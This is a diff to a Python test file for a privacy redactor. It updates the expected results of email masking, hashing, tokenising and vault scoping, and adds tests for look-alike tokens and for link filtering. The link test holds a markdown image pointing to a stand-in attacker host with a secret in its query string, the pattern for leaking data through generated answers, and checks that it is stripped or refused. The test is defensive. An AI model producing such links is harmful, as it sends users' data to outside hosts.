@@ -6,11 +6,12 @@ from typing import Any
 import pytest
 
 from schemas.errors import StepError
+from schemas.privacy.tokens import find
 from schemas.records.base import Json
 from services.privacy.redact.noted import PrivacyRefusal
 from services.privacy.redact.redactor import ASIDE_CHARS, Of, Redacted
 from services.privacy.redact.restore import May, restored
-from tests.support.privacy import OF, TOKEN, FakeDetectors, Vault, redactor, stands
+from tests.support.privacy import OF, TOKEN, FakeDetectors, Vault, redactor
 
 MAILS: dict[str, Json] = {"id": "mails", "kinds": ["email"], "action": "token", "at": ["log", "provider"]}
 SECRETS: dict[str, Json] = {"id": "keys", "classes": ["secret"], "action": "mask", "at": ["log"]}
@@ -28,15 +29,15 @@ async def applied(section: dict[str, Json], value: Any, **how: Any) -> Redacted:
     [
         ("keep", "to ann@acme.org now"),
         ("drop", "to  now"),
-        ("mask", "to [email] now"),
-        ("hash", r"to \[email:[0-9a-f]{16}\] now"),
-        ("token", r"to \[EML_[0-9a-f]{12}\] now"),
-        ("fake", r"to [a-z]{12}@example\.com now"),
+        ("mask", r"to a\*\*\*@\*\*\*\.org now"),
+        ("hash", r"to eml#[0-9a-f]{24} now"),
+        ("token", r"to EML_[0-9A-Z]{13} now"),
+        ("fake", r"to (?!ann@acme)[a-z.0-9]+@example\.[a-z]+ now"),
     ],
 )
 async def test_an_action_replaces_the_span_alone(action: str, expected: str) -> None:
     found = await applied({"redact": [{**MAILS, "action": action}]}, {"text": "to ann@acme.org now", "n": [1, None]})
-    assert re.fullmatch(expected if action not in ("mask",) else re.escape(expected), found.value["text"])
+    assert re.fullmatch(expected, found.value["text"])
     assert found.value["n"] == [1, None]
 
 
@@ -68,7 +69,7 @@ async def test_tokens_of_all_findings_are_one_question_for_each_scope() -> None:
     rules = [MAILS, {"id": "cards", "kinds": ["card"], "action": "token", "at": ["log"], "scope": "run"}]
     value = {"to": ["ann@acme.org", "bob@acme.org", "ann@acme.org"], "card": 4111111111111111}
     found = await applied({"redact": rules}, value, vault=vault)
-    assert vault.questions == [("acme", "sub_1", 3), ("acme", "run:run-1", 1)]
+    assert vault.questions == [("sub_1", "", 3), ("sub_1", "run-1", 1)]
     first, second, third = found.value["to"]
     assert first == third != second
     assert found.tokens == 4
@@ -80,7 +81,7 @@ async def test_who_has_no_subject_gets_tokens_of_the_organisation() -> None:
     vault = Vault()
     await applied({"redact": [MAILS]}, "ann@acme.org", vault=vault, of=Of("acme"))
     await applied({"redact": [{**MAILS, "scope": "org"}]}, "ann@acme.org", vault=vault)
-    assert [subject for _, subject, _ in vault.questions] == [None, None]
+    assert vault.questions == [(None, "", 1), (None, "", 1)]
 
 
 async def test_tokens_are_not_looked_into_and_come_back_exactly() -> None:
@@ -88,14 +89,14 @@ async def test_tokens_are_not_looked_into_and_come_back_exactly() -> None:
     once = await applied({"redact": [MAILS]}, "from ann@acme.org to bob@acme.org", vault=vault)
     again = await applied({"redact": [MAILS]}, once.value, vault=vault)
     assert (again.value, again.decisions) == (once.value, [])
-    back = await restored(vault, stands, "acme", {"a": [once.value]}, May([((), ())]))
+    back = await restored(vault, "acme", {"a": [once.value]}, May([((), ())]))
     assert back.value == {"a": ["from ann@acme.org to bob@acme.org"]}
     assert back.kinds == ("email", "email")
 
 
 async def test_what_stays_gives_its_place_a_class() -> None:
     found = await applied({"redact": [SECRETS]}, {"to": ["x", "ann@acme.org"], "key": "sk-12345678"})
-    assert found.value == {"to": ["x", "ann@acme.org"], "key": "[api_key]"}
+    assert found.value == {"to": ["x", "ann@acme.org"], "key": "***"}
     assert found.labels is not None
     assert found.labels.recorded == {"$": ["trusted"], "$.to[1]": ["trusted", "class:pii"]}
 
@@ -172,10 +173,38 @@ async def test_a_vault_that_is_down_lets_nothing_pass(action: str) -> None:
         await applied({"redact": [{**MAILS, "action": action}]}, "ann@acme.org", vault=vault)
     assert (failed.value.code, failed.value.retryable) == ("privacy_failed", True)
     # What needs no vault needs none.
-    assert (await applied({"redact": [{**MAILS, "action": "mask"}]}, "ann@acme.org", vault=vault)).value == "[email]"
+    assert (
+        await applied({"redact": [{**MAILS, "action": "mask"}]}, "ann@acme.org", vault=vault)
+    ).value == "a***@***.org"
 
 
 async def test_a_long_value_is_looked_at_beside_the_loop() -> None:
     text = "x " * ASIDE_CHARS + "ann@acme.org"
     found = await applied({"redact": [{**MAILS, "action": "mask"}]}, {"a": [text]})
-    assert found.value["a"][0].endswith("x [email]")
+    assert found.value["a"][0].endswith("x a***@***.org")
+
+
+async def test_what_only_looks_like_a_token_hides_nothing() -> None:
+    vault = Vault()
+    # Sixteen digits behind a code: one in 32 of such texts has the right check character.
+    looks = next(text for n in range(1_000) if find(text := f"CRD_4111111111111{n:03}"))
+    found = await applied(
+        {"redact": [{**MAILS, "kinds": ["card"], "action": "drop"}]}, looks.replace("_", " "), vault=vault
+    )
+    assert found.value == "CRD "
+
+
+async def test_links_to_other_hosts_are_taken_out_or_refused() -> None:
+    links: dict[str, Json] = {"hosts": ["acme.org", "*.acme.org"]}
+    text = "see https://docs.acme.org/a and ![x](https://evil.example/?q=secret)"
+    value = {"a": [text], "n": 1}
+    found = await applied({"links": links}, value, influenced="answer")
+    assert found.value == {"a": [text.replace("https://evil.example/?q=secret", "[link removed]")], "n": 1}
+    assert [(one.rule, one.verdict) for one in found.decisions] == [("privacy:links", "redact")]
+    with pytest.raises(PrivacyRefusal, match="links to hosts that the policy does not name"):
+        await applied({"links": {**links, "others": "deny"}}, value, influenced="answer")
+    assert (await applied({"links": {**links, "others": "deny"}}, value, influenced="input")).value is value
+    shadow = await applied({"links": {**links, "others": "deny", "mode": "shadow"}}, value, influenced="answer")
+    assert (shadow.value, shadow.decisions[0].enforced) == (value, False)
+    only: dict[str, Json] = {"links": {"hosts": ["evil.example", "docs.acme.org"]}}
+    assert (await applied(only, value, influenced="answer")).decisions == []
